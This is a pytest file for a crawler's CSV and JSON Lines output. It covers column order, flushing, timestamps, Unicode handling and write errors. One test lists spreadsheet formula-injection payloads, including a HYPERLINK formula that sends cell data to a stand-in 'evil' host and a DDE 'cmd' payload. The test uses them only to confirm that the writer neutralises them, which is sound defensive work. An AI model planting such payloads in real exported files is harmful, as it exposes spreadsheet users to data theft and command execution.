"""Results as lines: what JSON and CSV readers, and spreadsheets, will see."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from shoal.cli.output import (
    DEAD_COLUMNS,
    PAGE_COLUMNS,
    Csv,
    JsonLines,
    dead_record,
    item_columns,
    item_record,
    open_writer,
    page_record,
)
from shoal.core.spec import read_spec
from shoal.errors import InputError
from shoal.store.pages import DeadLetter, ItemRow, PageRow

PAGE = PageRow(
    job="j",
    fingerprint=-1,
    url="http://a/",
    host="a",
    status=200,
    depth=2,
    attempt=0,
    content_type="text/html; charset=utf-8",
    charset="utf-8",
    size=1234,
    elapsed_ms=56.7,
    fetched_ms=1_700_000_000_123,
    redirect=None,
    canonical="http://a/c",
)
LETTER = DeadLetter("j", -1, "http://a/", "a", "dead", "http_503", "busy, later", 3, 4, 1_700_000_000_000)


def cell(value: Any) -> str:
    """What a CSV reader finds in the only cell of a record."""
    file = io.StringIO()
    Csv(file, ["x"]).write([{"x": value}])
    header, row = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert header == ["x"]
    return row[0] if row else ""


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        '=HYPERLINK("http://evil/"&A1)',
        "+1",
        "-1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "=",
        "- a list item",
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_made_harmless(formula: str) -> None:
    assert cell(formula) == "'" + formula


@pytest.mark.parametrize(
    "text",
    [
        "1=1",
        "a+b",
        "a-b",
        "x@y.example",
        " =1",
        "'=1",
        "£5.00",
        "",
        "a,b",
        'say "hi"',
        "two\nlines",
        "two\r\nlines",
        "[1]",
    ],
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize(
    "text", ["größer", "表紙の美しい本", "👨‍👩‍👧", "עברית", "e\u0301", "\u2028", "\ufeffx", "nul\x00nul"]
)
def test_any_character_survives_both_formats(tmp_path: Path, text: str) -> None:
    for kind in ("csv", "jsonl"):
        with open_writer(str(tmp_path / kind), kind, ["x"]) as writer:
            writer.write([{"x": text}])
    with (tmp_path / "csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file)) == [["x"], [text]]
    (line,) = (tmp_path / "jsonl").read_bytes().rstrip(b"\n").split(b"\n")
    assert json.loads(line) == {"x": text}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (["a", "b"], '["a","b"]'),
        ([], "[]"),
        (["größer", 'a "b", c'], '["größer","a \\"b\\", c"]'),
        (["=1+1"], '["=1+1"]'),
        ({"a": [1, None]}, '{"a":[1,null]}'),
        (None, ""),
        (-5, "-5"),
        (0, "0"),
        (1.5, "1.5"),
        (True, "True"),
    ],
)
def test_lists_are_json_in_a_cell_and_numbers_stay_numbers(value: Any, written: str) -> None:
    assert cell(value) == written


def test_csv_has_its_columns_in_order_whatever_the_records_hold() -> None:
    file = io.StringIO()
    writer = Csv(file, ["b", "a"])
    assert file.getvalue() == "b,a\r\n"
    writer.write([{"a": 1, "b": 2}, {"a": 3, "other": 4}])
    writer.write([{}])
    assert file.getvalue() == "b,a\r\n2,1\r\n,3\r\n,\r\n"


def test_json_lines_are_one_object_a_line() -> None:
    file = io.StringIO()
    writer = JsonLines(file)
    writer.write([{"a": "x\ny", "b": ["é", None, 1.5, True]}, {}])
    writer.write([])
    assert file.getvalue() == '{"a":"x\\ny","b":["é",null,1.5,true]}\n{}\n'


class Flushes(io.StringIO):
    """Remembers what could be read from outside after each flush."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[str] = []

    def flush(self) -> None:
        self.seen.append(self.getvalue())


def test_each_batch_is_flushed_so_that_others_can_follow_it() -> None:
    lines, table = Flushes(), Flushes()
    JsonLines(lines).write([{"a": 1}])
    Csv(table, ["a"]).write([{"a": 1}])
    assert lines.seen[-1] == '{"a":1}\n'
    assert table.seen == ["a\r\n", "a\r\n1\r\n"]


def test_an_item_is_its_page_and_its_fields() -> None:
    spec = read_spec({"fields": {"title": "h1", "tags[]": ".tag"}})
    item = ItemRow("j", -1, 0, "http://a/", {"title": "T", "tags": ["x"]})
    assert item_columns(spec) == ("url", "title", "tags")
    assert item_record(item) == {"url": "http://a/", "title": "T", "tags": ["x"]}


def test_a_page_record_has_the_columns_and_a_readable_time() -> None:
    record = page_record(PAGE)
    assert set(record) == set(PAGE_COLUMNS)
    assert [record[name] for name in PAGE_COLUMNS] == [
        *("http://a/", 200, 2, "text/html; charset=utf-8", 1234, 56.7),
        *("2023-11-14T22:13:20.123+00:00", None, "http://a/c"),
    ]


def test_a_dead_letter_has_the_columns_and_a_readable_time() -> None:
    record = dead_record(LETTER)
    assert set(record) == set(DEAD_COLUMNS)
    assert [record[name] for name in DEAD_COLUMNS] == [
        *("http://a/", "dead", "http_503", "busy, later", 4, 3, "2023-11-14T22:13:20.000+00:00"),
    ]


@pytest.mark.parametrize(("kind", "written"), [("csv", "x\r\n1\r\n"), ("jsonl", '{"x":1}\n')])
def test_a_dash_is_standard_output(capsys: pytest.CaptureFixture[str], kind: str, written: str) -> None:
    with open_writer("-", kind, ["x"]) as writer:
        writer.write([{"x": 1}])
    with open_writer("-", "jsonl", []) as writer:
        writer.write([{}])
    assert capsys.readouterr().out == written + "{}\n"


def test_an_old_file_is_replaced(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text("old " * 100)
    with open_writer(str(path), "csv", ["x"]):
        pass
    assert path.read_bytes() == b"x\r\n"


def test_a_file_in_the_home_folder_is_found(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    with open_writer("~/out.jsonl", "jsonl", []) as writer:
        writer.write([{}])
    assert (tmp_path / "out.jsonl").read_text() == "{}\n"


@pytest.mark.parametrize(("name", "why"), [("missing/out.csv", "No such file or directory"), (".", "Is a directory")])
def test_a_file_that_cannot_be_written_is_named_with_the_cause(tmp_path: Path, name: str, why: str) -> None:
    path = f"{tmp_path}/{name}"
    with pytest.raises(InputError) as caught, open_writer(path, "csv", []):
        pass
    assert str(caught.value) == f"cannot write {path}: {why}"
